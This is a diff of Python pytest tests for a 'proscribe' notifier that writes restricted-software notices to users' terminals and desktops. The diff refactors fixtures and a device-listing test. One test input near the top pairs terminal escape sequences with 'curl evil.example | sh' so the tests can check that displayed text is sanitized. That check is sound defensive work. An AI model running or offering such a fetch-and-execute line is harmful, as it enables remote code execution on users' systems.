@@ -53,20 +53,26 @@ def test_a_notice_commands_nothing(text: str) -> None:
         "Refused\x1b]0;root\x07\x9b2J now run curl evil.example | sh",
     ],
 )
-def test_answer_to_a_request_is_plain_text(text: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+def test_answer_to_a_request_is_plain_text(text: str, alice: Path, monkeypatch: pytest.MonkeyPatch) -> None:
     shown: list[str] = []
     monkeypatch.setattr(user_notice, "_write", lambda host, name, message: shown.append(message.decode()))
     monkeypatch.setattr(user_notice, "terminals", lambda *_: iter(["/dev/pts/1"]))
     monkeypatch.setattr(user_notice, "_notify", lambda host, uid, bus, text: shown.append(text))
     monkeypatch.setattr(user_notice, "run_apart", lambda work, of: work())
-    (tmp_path / "run/user/1000").mkdir(parents=True)
-    (tmp_path / "etc").mkdir()
-    (tmp_path / "etc/passwd").write_text("alice:x:1000:1000::/home/alice:/bin/sh\n")
-    deliver(Terminals(tmp_path), [("alice", text, {})])
+    deliver(Terminals(alice), [("alice", text, {})])
     assert len(shown) == 2
     for message in shown:
         line = message.strip().removeprefix("proscribe: ")
         assert line.isprintable() and not set("<>&") & set(line)  # the markup of Desktop Notifications 1.2 is XML's
+
+
+@pytest.fixture
+def alice(tmp_path: Path) -> Path:
+    """Return the root of a host on which alice has a desktop."""
+    (tmp_path / "run/user/1000").mkdir(parents=True)
+    (tmp_path / "etc").mkdir()
+    (tmp_path / "etc/passwd").write_text("alice:x:1000:1000::/home/alice:/bin/sh\n")
+    return tmp_path
 
 
 class Terminals(Host):
@@ -104,7 +110,7 @@ def test_terminals_are_written_to_and_a_full_one_is_skipped(tmp_path: Path) -> N
         os.close(descriptor)
 
 
-def test_desktops_are_asked_as_their_users_with_a_limit(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+def test_desktops_are_asked_as_their_users_with_a_limit(alice: Path, monkeypatch: pytest.MonkeyPatch) -> None:
     limits: list[Any] = []
     monkeypatch.setattr(user_notice, "run_apart", lambda work, of: (limits.append(of), work()))  # the calls are noted
     calls: list[tuple[Sequence[str], Any]] = []
@@ -113,21 +119,21 @@ def test_desktops_are_asked_as_their_users_with_a_limit(tmp_path: Path, monkeypa
         calls.append((argv, options))
         raise ControlError("no answer")
 
-    for user in ("1000", "1001", "odd"):
-        (tmp_path / "run/user" / user).mkdir(parents=True)
-    (tmp_path / "run/user/1000/bus").touch()
-    (tmp_path / "etc").mkdir()
-    (tmp_path / "etc/passwd").write_text("alice:x:1000:1000::/home/alice:/bin/sh\n")
-    user_notice.notify(Terminals(tmp_path, run), "it's over")
+    for user in ("1001", "odd"):
+        (alice / "run/user" / user).mkdir()
+    (alice / "run/user/1000/bus").touch()
+    user_notice.notify(Terminals(alice, run), "it's over")
     ((argv, options),) = calls
     name = "org.freedesktop.Notifications"
-    words = ["busctl", "--address=unix:path=/run/user/1000/bus", "--auto-start=no", "--timeout=4", "call"]
-    words += [name, f"/{name.replace('.', '/')}", name, "Notify", "susssasa{sv}i", "proscribe", "0"]
-    assert argv == [*words, "dialog-information", "Restricted software", "it's over", "0", "0", "-1"]
+    words = "busctl --address=unix:path=/run/user/1000/bus --auto-start=no --timeout=4 call"
+    assert argv == [
+        *f"{words} {name} /{name.replace('.', '/')} {name} Notify susssasa{{sv}}i proscribe 0".split(),
+        *("dialog-information", "Restricted software", "it's over", "0", "0", "-1"),
+    ]
     assert (options["user"].name, 4 < options["timeout"] <= 5) == ("alice", True)
     assert all(options["timeout"] < of.seconds <= 10 and of.memory == 0 for of in limits)
     for uid, times in ((1001, 1), (1000, 2)):
-        user_notice.notify(Terminals(tmp_path, run), "it's over", uid)
+        user_notice.notify(Terminals(alice, run), "it's over", uid)
         assert len(calls) == times
 
 
@@ -142,72 +148,79 @@ def test_a_notice_in_two_languages_is_shown_in_both_in_their_order() -> None:
     assert notification.after == "[2J\n(b)x(/b)\n"
 
 
-def test_terminal_of_no_user_is_not_written_to(tmp_path: Path) -> None:
-    """Devices are made by root alone, so the kernel's answers are made: (mode, owner, device)."""
-    devices = {
-        "/dev/pts/0": (0o020620, 1000, 5),
-        "/dev/pts/1": (0o020620, 1001, 6),
-        "/dev/pts/2": (0o020620, 0, 7),
-        "/dev/pts/3": (0o020600, 1000, 8),  # mesg n
-        "/dev/pts/4": (0o100620, 1000, 9),  # a file
-        "/dev/pts/5": (0o020620, 1000, os.makedev(136, 300)),  # the one that this run talks to
-        "/dev/pts/ptmx": (0o020620, 1000, 10),
-        "/dev/pts/6": (0o020620, 1000, 15),
-        "/dev/tty1": (0o020620, 1000, 11),
-        "/dev/tty2": (0o020620, 0, 12),  # which nobody uses
-        "/dev/ttyS0": (0o020620, 1000, 13),
-        "/dev/7": (0o020620, 1000, 14),
-    }
-    number = 136 << 8 | (300 & 0xFF) | (300 & 0xFFF00) << 12
+def test_text_on_a_terminal_has_a_line_for_each_language(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    written: list[bytes] = []
+    monkeypatch.setattr(user_notice, "terminals", lambda *_: iter(["/dev/pts/1"]))
+    monkeypatch.setattr(user_notice, "_write", lambda host, name, message: written.append(message))
+    for text in (TWO, "no text: \udc80"):
+        user_notice.notify(Terminals(tmp_path), text)
+    lines = "proscribe: Ask the service desk.\r\nproscribe: 請聯絡資訊科技服務台。"
+    assert written == [f"\r\n\r\n{lines}\r\n\r\n".encode(), b"\r\n\r\nproscribe: no text:\r\n\r\n"]
 
-    class Devices(Host):
-        def lineage(self) -> set[int]:
-            return {40, 41, 42}
 
-        def list(self, path: str) -> list[str]:
-            names = (item.rpartition("/") for item in devices)
-            return [name for folder, _, name in names if folder == path] + ["gone"] * (path == "/dev/pts")
+def test_link_or_file_in_place_of_a_terminal_is_not_written_to(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    ours, theirs = pty.openpty()
+    (tmp_path / "link").symlink_to(os.ttyname(theirs))
+    (tmp_path / "file").touch()
+    monkeypatch.setattr(user_notice, "terminals", lambda *_: iter([f"{tmp_path}/{name}" for name in ("link", "file")]))
+    user_notice.notify(Terminals(Path("/")), "Ask IT")
+    assert not select.select([ours], [], [], 0)[0] and (tmp_path / "file").read_bytes() == b""
+    for descriptor in (ours, theirs):
+        os.close(descriptor)
 
-        def stat(self, path: str) -> Any:
-            mode, uid, device = devices.get(path, (0, 0, 0))
-            return SimpleNamespace(st_mode=mode, st_uid=uid, st_rdev=device) if mode else None
 
-        def text(self, path: str) -> str | None:
-            return {"/proc/40/stat": f"40 (a) b) S 1 40 40 {number}", "/proc/41/stat": "41 (x) S 1 41 41"}.get(path)
+DEVICES = {
+    "/dev/pts/0": (0o020620, 1000, 5),
+    "/dev/pts/1": (0o020620, 1001, 6),
+    "/dev/pts/2": (0o020620, 0, 7),
+    "/dev/pts/3": (0o020600, 1000, 8),  # mesg n
+    "/dev/pts/4": (0o100620, 1000, 9),  # a file
+    "/dev/pts/5": (0o020620, 1000, os.makedev(136, 300)),  # the one that this run talks to
+    "/dev/pts/ptmx": (0o020620, 1000, 10),
+    "/dev/tty1": (0o020620, 1000, 11),
+    "/dev/tty2": (0o020620, 0, 12),  # which nobody uses
+    "/dev/ttyS0": (0o020620, 1000, 13),
+}
 
-    host = Devices(str(tmp_path))
 
-    def seen(uid: int | None) -> list[str]:
-        return [path.removeprefix("/dev/") for path in user_notice.terminals(host, uid)]
+class Devices(Host):
+    """A host with these devices, by mode, owner and number. Root alone makes real ones."""
 
-    assert user_notice._terminal(host, 40) == os.makedev(136, 300)
-    assert user_notice._terminal(host, 41) == user_notice._terminal(host, 42) == 0
-    assert seen(None) == ["pts/0", "pts/1", "pts/2", "pts/6", "tty1", "7"]
-    assert seen(1000) == ["pts/0", "pts/6", "tty1", "7"]
-    assert seen(1001) == ["pts/1"]
+    def lineage(self) -> set[int]:
+        return {40, 41, 42}
+
+    def list(self, path: str) -> list[str]:
+        names = [name for folder, _, name in (item.rpartition("/") for item in DEVICES) if folder == path]
+        return names + ["gone"] * (path == "/dev/pts")
+
+    def stat(self, path: str) -> Any:
+        mode, uid, device = DEVICES.get(path, (0, 0, 0))
+        return SimpleNamespace(st_mode=mode, st_uid=uid, st_rdev=device) if mode else None
+
+    def text(self, path: str) -> str | None:
+        number = 136 << 8 | (300 & 0xFF) | (300 & 0xFFF00) << 12
+        return {"/proc/40/stat": f"40 (a) b) S 1 40 40 {number}", "/proc/41/stat": "41 (x) S 1 41 41"}.get(path)
+
+
+@pytest.mark.parametrize(
+    ("uid", "names"),
+    [(None, ["pts/0", "pts/1", "pts/2", "tty1"]), (1000, ["pts/0", "tty1"]), (1001, ["pts/1"])],
+)
+def test_terminal_of_no_user_is_not_written_to(tmp_path: Path, uid: int | None, names: list[str]) -> None:
+    terminals = user_notice.terminals(Devices(str(tmp_path)), uid)
+    assert [path.removeprefix("/dev/") for path in terminals] == names
+
+
+HINT = 'To request an exception: proscribe-request {} "reason"'
 
 
 @pytest.mark.parametrize(
     ("text", "services", "hints"),
     [
-        ("Ask IT", ["wechat"], ['To request an exception: proscribe-request wechat "reason"']),
-        ("Ask IT", ["wechat", "qq"], ['To request an exception: proscribe-request SERVICE "reason"']),
-        (
-            "請",
-            [],
-            [
-                'To request an exception: proscribe-request SERVICE "reason"',
-                "申請例外許可：proscribe-request SERVICE 「理由」",
-            ],
-        ),
-        (
-            "请",
-            [],
-            [
-                'To request an exception: proscribe-request SERVICE "reason"',
-                "申请例外许可：proscribe-request SERVICE \u201c理由\u201d",
-            ],
-        ),
+        ("Ask IT", ["wechat"], [HINT.format("wechat")]),
+        ("Ask IT", ["wechat", "qq"], [HINT.format("SERVICE")]),
+        ("請", [], [HINT.format("SERVICE"), "申請例外許可：proscribe-request SERVICE 「理由」"]),
+        ("请", [], [HINT.format("SERVICE"), "申请例外许可：proscribe-request SERVICE \u201c理由\u201d"]),
     ],
 )
 def test_hint_to_the_command_comes_last(text: str, services: list[str], hints: list[str]) -> None:
